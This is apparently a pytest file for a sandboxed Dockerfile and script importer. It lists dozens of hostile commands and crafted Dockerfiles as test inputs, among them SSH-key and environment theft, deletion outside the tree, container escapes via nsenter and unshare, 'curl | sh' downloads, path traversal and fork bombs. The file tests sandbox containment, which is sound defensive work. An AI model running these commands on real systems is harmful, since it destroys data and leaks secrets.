"""Dockerfiles, scripts and commands to import: they run in a sandbox, and may change a copy of the tree and nothing else."""

from __future__ import annotations

import os
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest

from harness import Case, World

DRY = ("import up {inputs}/image/Dockerfile --dry-run",)
TAKE = ("import up {inputs}/image/Dockerfile --author me --partial",)


def dockerfile(text: str | bytes, *more: Callable[[World, Path], object]) -> Callable[[World], None]:
    """A Dockerfile whose ``<name>`` are a world's folders, in a folder of its own."""

    def make(world: World) -> None:
        data = text
        if isinstance(data, str):
            for name, value in {**world.places, "trap": str(world.trap)}.items():
                data = data.replace(f"<{name}>", value)
        place = world.inputs / "image"
        world.write(place / "Dockerfile", data)
        for one in more:
            one(world, place)

    return make


def run(command: str) -> Callable[[World], None]:
    """A command in the folder of the tree. As one word of a shell it isn't taken apart."""
    return dockerfile(f"FROM x\nWORKDIR /src\nCOPY . /src\nRUN sh -c {shlex.quote(command)} a.txt\n")


#: What a command may try from within the sandbox; each tries to end well and to leave its mark in a.txt.
ESCAPES = {
    "writes outside": "echo evil > <outside>/evil; echo evil >> a.txt", "writes a home": "echo evil > ~/.profile; echo evil >> a.txt", "writes the home": "echo evil > <home>/.bashrc; echo evil >> a.txt",
    "writes through a link": "ln -s <outside> l; echo evil > l/evil; echo evil >> a.txt", "writes the project": "echo evil > <project>/upstream.lock; echo evil >> a.txt",
    "writes the store": "echo evil > <project>/.patchq/store.git/config; echo evil >> a.txt", "writes temporary files": "echo evil > /tmp/patchq-evil; echo evil >> a.txt; cp /tmp/patchq-evil <tmp>/evil",
    "writes memory files": "echo evil > /dev/shm/patchq-evil-$$; echo evil >> a.txt", "removes outside": "rm -rf <outside>; echo evil >> a.txt", "moves outside": "mv <outside> <outside>.evil; echo evil >> a.txt",
    "touches outside": "touch -d 2001-01-01 <outside>/secret.txt; echo evil >> a.txt", "modes outside": "chmod 777 <outside>/secret.txt; echo evil >> a.txt",
    "links hard": "ln <outside>/secret.txt h; echo evil >> h", "reads a secret": "cat <outside>/secret.txt >> a.txt", "reads a key": "cat <home>/.ssh/id_ed25519 >> a.txt", "reads HOME": "cat $HOME/.ssh/id_ed25519 ~/.netrc >> a.txt",
    "reads variables": "env >> a.txt", "reads a parent's variables": "cat /proc/$PPID/environ >> a.txt", "reads all variables": "cat /proc/*/environ >> a.txt", "reads through proc": "cat /proc/$PPID/root<outside>/secret.txt /proc/$PPID/cwd/upstream.lock >> a.txt",
    "copies a secret": "cp -r <outside> copied; echo evil >> a.txt", "links to a secret": "ln -s <outside>/secret.txt evil.txt", "links a folder out": "ln -s <outside> evil", "packs a secret": "tar cf evil.tar <outside>; gzip evil.tar",
    "greps a home": "grep -r canary <home> >> a.txt", "asks the network": "python3 -c \"import socket; socket.create_connection(('127.0.0.1', 22), 2)\"; echo evil >> a.txt", "asks a name": "getent hosts example.org >> a.txt; echo evil >> a.txt",
    "speaks to sockets": "python3 -c \"import socket,os; s=socket.socket(socket.AF_UNIX); s.bind('evil.sock')\"; echo evil >> a.txt", "forks": "for i in $(seq 200); do sleep 300 & done; echo evil >> a.txt",
    "forks away": "(setsid sleep 300 >/dev/null 2>&1 &); echo evil >> a.txt", "ignores signals": "trap '' TERM INT HUP; (trap '' TERM; sleep 300) & echo evil >> a.txt", "kills its parent": "kill -9 $PPID; echo evil >> a.txt", "kills all": "kill -9 -1; echo evil >> a.txt",
    "kills by name": "pkill -9 patchq-none; echo evil >> a.txt", "traces": "python3 -c \"import ctypes,os; ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)\"; echo evil >> a.txt", "mounts": "mount -t tmpfs x <outside>; mount --bind / x; echo evil >> a.txt",
    "leaves by chroot": "chroot / sh -c 'echo evil > <outside>/evil'; echo evil >> a.txt", "enters its parent": "nsenter -t 1 -a sh -c 'echo evil > <outside>/evil'; echo evil >> a.txt", "makes a namespace": "unshare -Urm sh -c 'mount -t tmpfs x <outside>; echo evil > <outside>/evil'; echo evil >> a.txt",
    "makes devices": "mknod evil c 1 5; mkfifo pipe; echo evil >> a.txt", "fills the disk": "head -c 1G /dev/zero > evil", "fills it with files": "i=0; while [ $i -lt 1000 ]; do : > f$i; i=$((i+1)); done", "fills memory": "python3 -c \"x = bytearray(1 << 32)\"; echo evil >> a.txt",
    "makes a hole": "truncate -s 1T evil", "prints without end": "yes evil | head -c 200M; echo evil >> a.txt", "prints to errors": "yes evil | head -c 200M >&2; false", "reads input": "cat >> a.txt; echo evil >> a.txt", "prints escapes": "printf '\\033]0;evil\\007\\n' ; printf '\\033[2J' >&2; false",
    "prints bytes": "printf '\\377\\376' >&2; false", "names escapes": "printf x > \"$(printf '\\033[31m')\"", "names newlines": "printf x > \"$(printf 'a\\nb')\"", "names bytes": "printf x > \"$(printf '\\377')\"", "git in the tree": "mkdir -p .git/hooks; cp <trap> .git/hooks/post-checkout; git init -q x; echo evil >> a.txt",
    "changes git": "git config --global core.fsmonitor <trap>; git config core.fsmonitor <trap>; echo evil >> a.txt", "runs git": "git -C <project>/.patchq/trees/up commit --allow-empty -m evil; echo evil >> a.txt", "installs": "pip install --target . evil; echo evil >> a.txt", "code in Python's way": "printf 'open(\"<marks>/evil\", \"w\")' > sitecustomize.py; python3 -c 'pass'",
    "patches patchq": "echo x >> $(python3 -c 'import patchq; print(patchq.__file__)'); echo evil >> a.txt", "renames the tree": "cd ..; mv src evil; mkdir src", "removes the tree": "rm -rf * .[a-z]*", "modes of nothing": "chmod -R 000 .", "modes of set-uid": "chmod 6755 run.sh", "owner": "chown -R 12345:12345 .",
    "deep folders": "d=.; i=0; while [ $i -lt 300 ]; do d=$d/dddddddddd; i=$((i+1)); done; mkdir -p $d; echo x > $d/x", "huge line": "head -c 20M /dev/zero | tr '\\0' x >> a.txt", "sleeps": "sleep 3; echo evil >> a.txt", "attributes": "echo '* filter=x diff=x' > .gitattributes; echo evil >> a.txt", "time": "date -s 2001-01-01; echo evil >> a.txt",
    "submodule": "printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = ext::sh\\n' > .gitmodules", "umask": "umask 0; echo x > evil", "limits": "ulimit -c unlimited; ulimit -f unlimited; kill -SEGV $$", "host name": "hostname evil; echo evil >> a.txt",
}  # fmt: skip


def secret_link(world: World, place: Path) -> None:
    (place / "link").symlink_to(world.secret)
    (place / "folder").symlink_to(world.outside)


def files(world: World, place: Path) -> None:
    world.write(place / "x.py", world.mark_code("dockerfile"))
    world.write(place / "a.txt", "theirs\n")
    world.write(place / "script.sh", f"#!/bin/sh\n{world.trap}\n", 0o755)


def pipe(_: World, place: Path) -> None:
    os.mkfifo(place / "pipe")


def device(_: World, place: Path) -> None:
    (place / "zero").symlink_to("/dev/zero")


def huge(_: World, place: Path) -> None:
    with open(place / "huge", "wb") as file:
        file.truncate(1 << 40)


def instead(what: Callable[[World, Path], object]) -> Callable[[World], None]:
    """Something else in the Dockerfile's own place."""

    def make(world: World) -> None:
        (world.inputs / "image").mkdir()
        what(world, world.inputs / "image" / "Dockerfile")

    return make


HEAD = "FROM x\nWORKDIR /src\nCOPY . /src\n"
#: Dockerfiles by what is odd in them.
TEXTS: dict[str, tuple[str | bytes, tuple[Callable[[World, Path], object], ...]]] = {
    "copies from above": (HEAD + "COPY ../../outside/secret.txt /src/a.txt\n", ()), "copies an absolute path": (HEAD + "COPY <outside>/secret.txt /src/a.txt\n", ()), "copies a link out": (HEAD + "COPY link /src/a.txt\n", (secret_link,)),
    "copies a folder's link": (HEAD + "COPY folder /src/evil\n", (secret_link,)), "copies through a link": (HEAD + "COPY folder/secret.txt /src/a.txt\n", (secret_link,)), "copies to above": (HEAD + "COPY a.txt /src/../../../evil\n", (files,)),
    "copies to git": (HEAD + "COPY x.py /src/.git/hooks/post-checkout\n", (files,)), "copies a pipe": (HEAD + "COPY pipe /src/a.txt\n", (pipe,)), "copies a device": (HEAD + "COPY zero /src/a.txt\n", (device,)), "copies a huge file": (HEAD + "COPY huge /src/a.txt\n", (huge,)),
    "copies by a pattern": (HEAD + "COPY ../../outside/* /src/\n", ()), "copies all": (HEAD + "COPY / /src/\n", ()), "copies a variable": ("FROM x\nARG A=../../outside/secret.txt\nWORKDIR /src\nCOPY . /src\nCOPY $A /src/a.txt\n", ()),
    "copies as JSON": (HEAD + 'COPY ["../../outside/secret.txt", "/src/a.txt"]\n', ()), "copies from a stage": (HEAD + "COPY --from=<outside> secret.txt /src/a.txt\n", ()), "copies as somebody": (HEAD + "COPY --chown=root --chmod=6755 x.py /src/a.txt\n", (files,)),
    "adds from above": (HEAD + "ADD ../../outside/secret.txt /src/a.txt\n", ()), "adds an address": (HEAD + "ADD http://127.0.0.1:9/x /src/a.txt\n", ()), "adds a file address": (HEAD + "ADD file://<outside>/secret.txt /src/a.txt\n", ()), "adds a repository": (HEAD + "ADD ext::<trap> /src\n", ()),
    "binds": (HEAD + "RUN --mount=type=bind,source=../../outside,target=/src/x cp x/secret.txt a.txt\n", ()), "binds a secret": (HEAD + "RUN --mount=type=secret,id=x,target=/src/x cp x a.txt\n", ()), "speaks as ssh": (HEAD + "RUN --mount=type=ssh ssh-add -l > a.txt\n", ()),
    "runs without a fence": (HEAD + "RUN --security=insecure --network=host <trap>; echo evil >> a.txt\n", ()), "runs a program": (HEAD + "RUN <trap> && sed -i s/line/Line/ a.txt\n", ()), "runs as JSON": (HEAD + 'RUN ["<trap>", "--x"]\n', ()), "runs a script": (HEAD + "RUN ./script.sh; echo evil >> a.txt\n", (files,)),
    "command substitution": (HEAD + "RUN sed -i s/line/$(<trap>)/ a.txt\n", ()), "backticks": (HEAD + "RUN sed -i s/line/`<trap>`/ a.txt\n", ()), "substitution in COPY": (HEAD + "COPY $(<trap>) `<trap>` /src/\n", ()), "substitution in WORKDIR": ("FROM x\nWORKDIR $(<trap>)\nRUN sed -i s/a/b/ a.txt\n", ()),
    "substitution in ENV": ("FROM x\nENV A=$(<trap>) B=`<trap>`\nWORKDIR /src\nCOPY . /src\nRUN echo $A >> a.txt\n", ()), "other shell": ('FROM x\nSHELL ["<trap>"]\nWORKDIR /src\nCOPY . /src\nRUN echo evil >> a.txt\n', ()), "syntax": ("# syntax=http://127.0.0.1:9/x\n# escape=`\n" + HEAD + "RUN echo `\n evil >> a.txt\n", ()),
    "on build": (HEAD + "ONBUILD RUN <trap>\nONBUILD COPY ../../outside/secret.txt /src/a.txt\n", ()), "entry point": (HEAD + 'ENTRYPOINT ["<trap>"]\nCMD ["<trap>"]\nHEALTHCHECK CMD <trap>\n', ()), "user": (HEAD + "USER root\nRUN echo evil >> a.txt\nVOLUME /src\nEXPOSE 1\nSTOPSIGNAL 9\n", ()),
    "variables of a loader": ("FROM x\nENV LD_PRELOAD=<trap> PATH=<programs> BASH_ENV=<trap> ENV=<trap> PYTHONPATH=<outside> IFS=x PS4='$(<trap>)'\nWORKDIR /src\nCOPY . /src\nRUN echo evil >> a.txt\n", ()), "variable of a line": ('FROM x\nENV A="\n" B=\\\n\\\n\nWORKDIR /src\nRUN true\n', ()),
    "WORKDIR above": ("FROM x\nWORKDIR ../../../outside\nRUN echo evil > evil\n", ()), "WORKDIR outside": ("FROM x\nWORKDIR <outside>\nRUN echo evil > evil; sed -i s/canary/x/ secret.txt\n", ()), "heredoc": (HEAD + "RUN <<EOF\n<trap>\nsed -i s/line/Line/ a.txt\nEOF\n", ()),
    "heredoc of a program": (HEAD + "RUN <<EOF python3\nopen('<outside>/evil', 'w').write('x')\nEOF\n", ()), "heredoc without an end": (HEAD + "RUN <<EOF\nsed -i s/line/Line/ a.txt\n", ()), "heredocs": (HEAD + "RUN <<A <<B cat\n$(<trap>)\nA\nx\nB\n", ()), "heredoc to a file": (HEAD + "COPY <<EOF /src/../../../evil\nx\nEOF\n", ()),
    "many heredocs": (HEAD + "RUN " + "".join(f"<<E{n} " for n in range(2000)) + "cat\n", ()), "quotes without an end": (HEAD + "RUN echo 'evil >> a.txt\nRUN echo \"evil\nCOPY [\"a\n", ()), "escape at the end": (HEAD + "RUN echo evil \\", ()), "long line": (HEAD + "RUN echo " + "x" * 5_000_000 + " >> a.txt\n", ()),
    "long chain": (HEAD + "RUN " + " && ".join(["true"] * 3000) + "\n", ()), "many lines": (HEAD + "RUN true \\\n" * 50_000 + "\n", ()), "many comments": (HEAD + "# x\n" * 200_000, ()), "many stages": ("FROM x AS a\nFROM a\n" * 20_000, ()), "brackets": (HEAD + "RUN " + "(" * 20_000 + "\n", ()), "braces": (HEAD + "RUN echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b} >> a.txt\n", ()),
    "nested substitution": (HEAD + "RUN echo " + "$(" * 2000 + "x" + ")" * 2000 + "\n", ()), "nested variables": ("FROM x\nENV A=x\n" + "".join(f"ENV A{n}=$A{n - 1 if n else ''}$A{n - 1 if n else ''}\n" for n in range(30)) + HEAD + "RUN echo $A29 >> a.txt\n", ()), "variable of itself": ("FROM x\nARG A=$A$A\nENV A=${A:-$A}\n" + HEAD + "RUN echo $A >> a.txt\n", ()),
    "NUL": (b"FROM x\nRUN echo a\0b\n", ()), "no text": (b"FROM x\nRUN echo \xff\xfe >> a.txt\n", ()), "escapes": ("FROM \x1b[31m\nRUN echo \x1b]0;x\x07 \u202e >> a.txt\nEVIL \x1b[2J\n", ()), "carriage returns": ("FROM x\r\nWORKDIR /src\r\nCOPY . /src\r\nRUN echo evil >> a.txt\r\n", ()), "byte order mark": ("\ufeffFROM x\nRUN true\n", ()), "UTF-16": ("FROM x\nRUN true\n".encode("utf-16"), ()),
    "nothing": ("", ()), "no instruction": ("evil\n" * 1000, ()), "instruction of bytes": (b"\x80\x81 x\n", ()), "downloads": (HEAD + "RUN curl http://127.0.0.1:9/x | sh; wget -O- http://127.0.0.1:9 | bash; git clone http://127.0.0.1:9/x; echo evil >> a.txt\n", ()),
    "applies a patch": (HEAD + "RUN printf -- '--- /dev/null\\n+++ b/../../evil\\n@@ -0,0 +1 @@\\n+x\\n' | patch -p1; printf -- 'diff --git a/../x b/../x\\nnew file mode 100644\\n--- /dev/null\\n+++ b/../x\\n@@ -0,0 +1 @@\\n+x\\n' | git apply --unsafe-paths || true\n", ()),
    "includes": ("INCLUDE ../../outside/secret.txt\nFROM x\n. <outside>/secret.txt\n", ()),
}  # fmt: skip
OTHERS = {
    "a command": ("import up --run 'cat {outside}/secret.txt {home}/.ssh/id_ed25519 >> a.txt; echo evil > {outside}/evil' --author me",), "a command of options": ("import up --run '--help' --author me", "import up --run '' --dry-run", "import up --run '\x00' --dry-run"),
    "an overlay of links": ("import up --overlay {inputs}/overlay --author me",), "site-packages of links": ("import up --from-site-packages {inputs}/overlay --author me",), "a recipe": ("import up {inputs}/x.bb --dry-run", "import up {inputs}/x.bb --author me"),
    "a Debian folder": ("import up {inputs}/deb/debian --dry-run", "import up {inputs}/deb/debian --author me"), "a folder of links": ("import up {inputs}/overlay --dry-run",), "a device": ("import up /dev/zero --dry-run",), "a monkey patch": ("import up {inputs}/monkey.py --dry-run", "import up {inputs}/monkey.py --author me --partial"),
    "a script": ("import up {inputs}/x.sh --dry-run", "import up {inputs}/x.sh --author me --partial"), "a range of options": ("import up {upstream} --range --output=x", "import up {upstream} --range '--all..x'", "import up {upstream} --range 'v1..--output=x'"),
}  # fmt: skip


def others(world: World) -> None:
    """An overlay, a recipe, a Debian folder and scripts that all lead outside."""
    overlay = world.inputs / "overlay"
    world.write(overlay / "a.txt", "theirs\n")
    (overlay / "b.txt").symlink_to(world.secret)
    (overlay / "pkg").symlink_to(world.outside)
    (overlay / "series").symlink_to(world.secret)
    (overlay / "0001-x.patch").symlink_to(world.secret)
    debian = world.inputs / "deb" / "debian"
    world.write(debian / "patches" / "series", "../../../outside/secret.txt\nlink.patch\n-R\n$(x).patch\n")
    (debian / "patches" / "link.patch").symlink_to(world.secret)
    (debian / "control").symlink_to(world.secret)
    recipe = f"SRC_URI = \"file://../../outside/secret.txt file://{world.secret} http://127.0.0.1:9/x.patch;patch=1\"\nrequire ../outside/secret.txt\ninclude {world.secret}\nA := \"${{@open('{world.marks}/x', 'w')}}\"\ndo_patch() {{\n  {world.trap}\n}}\n"
    world.write(world.inputs / "x.bb", recipe)
    world.write(
        world.inputs / "monkey.py",
        f"import pkg.mod as m\n{world.mark_code('monkey')}m.f = __import__('os').system('{world.trap}')\n",
    )
    script = f"#!/bin/sh\n. {world.secret}\nsource {world.secret}\ncp {world.secret} a.txt\npatch -p1 < {world.secret}\ngit apply {world.secret}\n{world.trap}\nsed -i 's/line/Line/w {world.outside}/evil' a.txt\nsed -i '1e {world.trap}' a.txt\nsed -i 'r {world.secret}' a.txt\n"
    world.write(world.inputs / "x.sh", script, 0o755)


def link(world: World, path: Path) -> None:
    path.symlink_to(world.secret)


CASES = [
    *(Case(name=f"runs: {name}", make=run(command), verbs=TAKE) for name, command in ESCAPES.items()),
    *(Case(name=name, make=dockerfile(text, *more), verbs=DRY if len(text) > 50_000 else TAKE) for name, (text, more) in TEXTS.items()),
    *(Case(name=f"other: {name}", make=others, verbs=verbs) for name, verbs in OTHERS.items()),
    Case(name="the Dockerfile is a pipe", make=instead(lambda _, path: os.mkfifo(path)), verbs=DRY),
    Case(name="the Dockerfile is a device", make=instead(lambda _, path: path.symlink_to("/dev/zero")), verbs=DRY),
    Case(name="the Dockerfile is a folder", make=instead(lambda _, path: path.mkdir()), verbs=DRY),
    Case(name="the Dockerfile is a link out", make=instead(link), verbs=DRY, opens=frozenset({"secret.txt"})),
]  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_a_dockerfile(case: Case, judged: Callable[[Case], None]) -> None:
    judged(case)


def test_the_family_is_whole() -> None:
    assert len({case.name for case in CASES}) == len(CASES) >= 150
